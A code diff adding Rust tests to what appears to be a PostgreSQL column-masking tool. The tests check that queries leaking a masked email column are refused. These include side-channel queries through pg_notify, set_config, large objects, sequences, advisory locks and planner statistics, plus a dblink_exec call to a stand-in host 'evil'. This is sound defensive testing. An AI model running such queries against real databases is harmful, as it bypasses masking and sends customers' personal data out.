@@ -163,3 +163,48 @@ fn fields_are_masked_by_origin_and_computed_ones_in_masked_statements() {
         );
     }
 }
+
+#[test]
+fn functions_that_could_carry_a_masked_value_out_are_refused() {
+    let r = rule(&["customers.email"]);
+    for sql in [
+        "SELECT pg_notify('c', email) FROM customers",
+        "SELECT set_config('application_name', email, false) FROM customers",
+        "SELECT lo_from_bytea(0, convert_to(email, 'UTF8')) FROM customers",
+        "SELECT setval('s', length(email)) FROM customers",
+        "SELECT dblink_exec('host=evil', 'insert ' || email) FROM customers",
+        "SELECT my_logger(email) FROM customers",
+        "SELECT public.lower(email) FROM customers",
+        "SELECT id FROM customers WHERE pg_advisory_lock(hashtext(email)) IS NOT NULL",
+    ] {
+        let s = statement(sql);
+        assert!(r.applies_to(&s), "{sql}");
+        let why = mask_obstacle(&s).unwrap_or_else(|| panic!("{sql} runs masked"));
+        assert!(why.contains("side-effect-free"), "{sql}: {why}");
+    }
+    for sql in [
+        "SELECT upper(email), count(*) FROM customers GROUP BY 1",
+        "SELECT pg_catalog.lower(email) FROM customers",
+        "SELECT coalesce(email, '-'), length(email) FROM customers WHERE id = 1",
+    ] {
+        assert_eq!(mask_obstacle(&statement(sql)), None, "{sql}");
+    }
+}
+
+#[test]
+fn planner_statistics_are_refused_where_a_mask_rule_applies() {
+    let r = rule(&["customers.email"]);
+    for sql in [
+        "SELECT histogram_bounds FROM pg_stats WHERE tablename = 'customers'",
+        "SELECT * FROM pg_catalog.pg_statistic",
+        "SELECT most_common_vals FROM pg_stats_ext",
+    ] {
+        let s = statement(sql);
+        assert!(r.applies_to(&s), "{sql}");
+        let why = mask_obstacle(&s).unwrap_or_else(|| panic!("{sql} runs masked"));
+        assert!(why.contains("planner statistics"), "{sql}: {why}");
+    }
+    // A table of the user's own with the same name in another schema is not
+    // the catalog.
+    assert!(!r.applies_to(&statement("SELECT * FROM app.pg_stats")));
+}
